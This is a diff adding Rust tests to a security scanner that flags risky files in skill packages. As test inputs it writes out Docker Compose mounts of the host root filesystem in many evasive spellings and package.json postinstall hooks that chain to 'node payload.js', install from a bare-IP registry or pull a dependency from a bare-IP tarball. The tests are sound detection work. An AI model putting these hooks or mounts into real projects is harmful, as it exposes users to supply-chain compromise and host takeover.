@@ -120,3 +120,101 @@ fn a_description_of_containers_in_a_document_is_an_example() {
     let report = scanned(&[("SKILL.md", skill)]);
     assert_eq!(report.worst(), Some(Severity::Medium), "{report:?}");
 }
+
+/// How grave a rule found what stands in a file of the skill.
+fn severity(code: &str, path: &str, text: &str) -> Option<Severity> {
+    let skill = "---\nname: x\ndescription: X.\n---\nRun it.\n";
+    let report = scanned(&[("SKILL.md", skill), (path, text)]);
+    let found = report.findings.iter().filter(|each| each.code == code);
+    found.map(|each| each.severity).max()
+}
+
+#[test]
+fn the_disk_is_the_disk_however_it_is_mounted() {
+    let compose = |mount: &str| {
+        let text = format!("services:\n  a:\n    image: alpine\n    volumes:\n{mount}\n");
+        severity("scan-container-host", "compose.yaml", &text)
+    };
+    let long = |rest: &str| {
+        compose(&format!(
+            "      - type: bind\n        source: /\n        target: /host\n{rest}"
+        ))
+    };
+    for mount in [
+        "      - /:/host",
+        "      - /:/host # not readonly",
+        "      - /:/host # :ro",
+        "      - /:/readonly",
+        "      - //:/host",
+        "      - /./:/host",
+        "      - \"/.:/host\"",
+        "      - /../..:/host",
+        "      - [/:/a:ro,/:/b]",
+        "      - type: bind\n        source: // # all of it\n        target: /host",
+        "      - source: /\n        target: /host\n      - source: /data\n        target: /data\n        read_only: true",
+        "      - {type: bind, source: /., target: /host}",
+    ] {
+        assert_eq!(compose(mount), Some(Severity::High), "{mount}");
+    }
+    for rest in [
+        "",
+        "        # read_only: true",
+        "    # read_only: true",
+        "    read_only: true",
+        "        read_only: false # read_only: true",
+    ] {
+        assert_eq!(long(rest), Some(Severity::High), "{rest}");
+    }
+    for mount in [
+        "      - /:/host:ro",
+        "      - \"/:/host:z,ro\" # to look at",
+        "      - //:/host:ro,rslave",
+        "      - source: /\n        target: /host\n        read_only: true",
+        "      - {type: bind, source: /, target: /host, read_only: true}",
+    ] {
+        assert_eq!(compose(mount), Some(Severity::Low), "{mount}");
+    }
+    assert_eq!(long("        read_only: true"), Some(Severity::Low));
+    let bind = long("        bind:\n          propagation: rslave\n        read_only: true");
+    assert_eq!(bind, Some(Severity::Low));
+    assert_eq!(compose("      - ./:/work"), None);
+    assert_eq!(compose("      - ../:/work"), None);
+}
+
+#[test]
+fn a_manifest_is_read_as_package_managers_read_it() {
+    let marked =
+        "\u{feff}{\"name\":\"x\",\"dependencies\":{\"left\":\"http://185.199.1.7/x.tgz\"}}";
+    assert_eq!(
+        severity("scan-package-source", "package.json", marked),
+        Some(Severity::High)
+    );
+    let hook = |scripts: &str| {
+        let text = format!("{{\"name\":\"x\",\"scripts\":{{{scripts}}}}}");
+        severity("scan-install-hook", "package.json", &text)
+    };
+    for scripts in [
+        r#""postinstall":"npm run build -s","build":"node payload.js""#,
+        r#""postinstall":"npm run -s build","build":"node payload.js""#,
+        r#""postinstall":"npm run build && true","build":"node payload.js""#,
+        r#""postinstall":"npm run build","prebuild":"node payload.js","build":"tsc""#,
+        r#""postinstall":"npm run build","build":"npm run build:more","build:more":"node payload.js""#,
+        r#""postinstall":"npm run build","build":"npm run build""#,
+        r#""postinstall":"yarn build --quiet","build":"node payload.js""#,
+        r#""postinstall":"npm run build | node payload.js","build":"tsc""#,
+        r#""postinstall":"npm ci\nnode payload.js""#,
+        r#""postinstall":"npm install ./evil""#,
+        r#""postinstall":"npm install --save evil""#,
+        r#""postinstall":"npm install --registry=http://1.2.3.4""#,
+    ] {
+        assert!(hook(scripts) >= Some(Severity::Medium), "{scripts}");
+    }
+    for scripts in [
+        r#""postinstall":"npm run build -s && husky","build":"tsc -p . && npm run copy","copy":"esbuild a.ts""#,
+        r#""postinstall":"npm install""#,
+        r#""postinstall":"npm ci --omit=dev --no-audit""#,
+        r#""prepare":"npm run build""#,
+    ] {
+        assert_eq!(hook(scripts), None, "{scripts}");
+    }
+}
